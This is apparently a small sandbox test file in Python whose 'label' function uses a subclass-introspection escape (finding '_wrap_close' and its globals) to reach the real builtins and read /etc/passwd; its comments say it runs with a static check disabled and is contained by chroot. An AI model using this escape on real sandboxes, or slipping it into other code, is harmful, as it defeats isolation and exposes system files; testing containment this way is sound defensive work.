# With the static check off: real os via an introspection escape; reads /etc/passwd.
# Contained by chroot into an empty directory.
def _os_globals():
    for cls in ().__class__.__bases__[0].__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__
    raise RuntimeError("no way out found")


def label(text):
    with _os_globals()["__builtins__"]["open"]("/etc/passwd") as f:
        return 1 if f.read() else 0
